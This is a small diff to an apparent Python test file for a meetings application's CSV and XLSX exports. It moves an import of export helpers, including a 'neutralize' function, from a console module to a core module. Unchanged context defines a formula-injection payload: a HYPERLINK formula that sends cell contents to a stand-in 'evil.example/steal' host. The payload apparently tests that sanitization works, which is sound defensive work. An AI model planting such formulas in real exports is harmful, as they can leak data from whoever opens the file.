@@ -10,8 +10,8 @@ import sqlalchemy as sa
 from console_helpers import login, populated_meeting, register
 from openpyxl import load_workbook
 
-from meetings.console.exports import neutralize, to_csv, to_xlsx
 from meetings.core.audit import AuditEntry
+from meetings.core.exports import neutralize, to_csv, to_xlsx
 
 EVIL = '=HYPERLINK("http://evil.example/steal?x="&A1,"Click")'
 
